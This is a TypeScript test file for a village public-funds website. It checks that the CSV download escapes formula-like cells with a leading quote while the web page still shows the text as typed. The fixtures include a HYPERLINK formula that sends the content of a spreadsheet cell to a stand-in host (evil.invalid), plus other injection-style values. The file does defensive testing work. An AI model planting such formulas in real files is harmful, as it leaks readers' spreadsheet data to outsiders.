/**
 * Formula injection in the public funds download: text a cadre typed reaches every reader's
 * spreadsheet, so it must arrive as text. The village page keeps showing it as typed.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPageTester, type PageTester } from '../../../../tests/support/pages.ts';
import Village from './index.astro';
import * as download from './download.ts';
import { addFundEntry, openDraft } from '../../../lib/server/accounts/disclosures.ts';
import { signOff } from '../../../../tests/support/ledgers.ts';
import { loadVillagePage } from '../../../lib/server/accounts/ledger.ts';
import { fundsCsvZh } from '../../../lib/server/accounts/export.ts';

// 南窑村 (白杨乡, 桑河县) has no demo ledgers.
const VILLAGE = '990121003203';
const HYPERLINK = '=HYPERLINK("http://evil.invalid/?q="&B2,"查看附件")';

let pages: PageTester;

beforeAll(async () => {
  pages = await createPageTester();
  const { test } = pages;
  const opened = await openDraft(test.db, null, VILLAGE, '2024-Q1');
  if (!opened.ok) throw new Error(JSON.stringify(opened.errors));
  const id = opened.value.id;
  const base = { entryDate: '2024-02-10', direction: 'income', amountFen: 1_200_000, subject: '经营收入', method: 'transfer', decisionRef: null };
  for (const input of [
    { ...base, summary: HYPERLINK, counterparty: '李德顺（承包户）', voucherNo: '记-2024Q1-001' },
    { ...base, summary: '收取南坡果园承包费', counterparty: '+1', voucherNo: '@SUM(A1:A9)', decisionRef: '-1+1' },
    { ...base, direction: 'expense', subject: '公益支出', amountFen: 1250, summary: '维修村东机井水泵', counterparty: '桑河县白杨农机修理部', voucherNo: '记-2024Q1-003' },
  ]) {
    const added = await addFundEntry(test.db, null, { disclosureId: id, entry: input });
    if (!added.ok) throw new Error(JSON.stringify(added.errors));
  }
  const published = await signOff(test.db, id, 'published');
  if (!published.ok) throw new Error(JSON.stringify(published.errors));
});
afterAll(async () => pages?.test.dispose());

function rowsOf(csv: string): Record<string, string>[] {
  return parse(csv.replace(/^\uFEFF/, ''), { columns: true });
}

describe('the funds CSV', () => {
  it('writes text cells that a spreadsheet would evaluate with a leading quote', async () => {
    const page = await loadVillagePage(pages.test.db, VILLAGE, '2024-Q1');
    const [first, second] = rowsOf(fundsCsvZh(page!.shown!));
    expect(first!['摘要']).toBe(`'${HYPERLINK}`);
    expect(second!['对方单位或个人']).toBe("'+1");
    expect(second!['凭证号']).toBe("'@SUM(A1:A9)");
    expect(second!['决议文号']).toBe("'-1+1");
  });

  it('keeps amounts and ids numeric', async () => {
    const page = await loadVillagePage(pages.test.db, VILLAGE, '2024-Q1');
    const rows = rowsOf(fundsCsvZh(page!.shown!));
    expect(rows.map((row) => [row['序号'], row['金额（元）'], row['金额（分）']])).toEqual([
      ['1', '12000.00', '1200000'],
      ['2', '12000.00', '1200000'],
      ['3', '12.50', '1250'],
    ]);
    expect(rows.every((row) => /^\d+$/.test(row['分录ID']!))).toBe(true);
  });

  it('is what the public download route serves', async () => {
    const url = `http://localhost/villages/${VILLAGE}/download?period=2024-Q1&format=csv`;
    const response = await download.GET({ params: { code: VILLAGE }, url: new URL(url), request: new Request(url) } as never);
    expect(response.headers.get('Content-Type')).toContain('text/csv');
    expect(rowsOf(await response.text())[0]!['摘要']).toBe(`'${HYPERLINK}`);
  });

  it('leaves the village page showing the text as typed', async () => {
    const { html } = await pages.render(Village, `/villages/${VILLAGE}?period=2024-Q1`, { code: VILLAGE });
    expect(html).toContain('=HYPERLINK(&quot;http://evil.invalid/?q=&quot;&amp;B2,&quot;查看附件&quot;)');
    expect(html).not.toContain(`'=HYPERLINK`);
  });
});
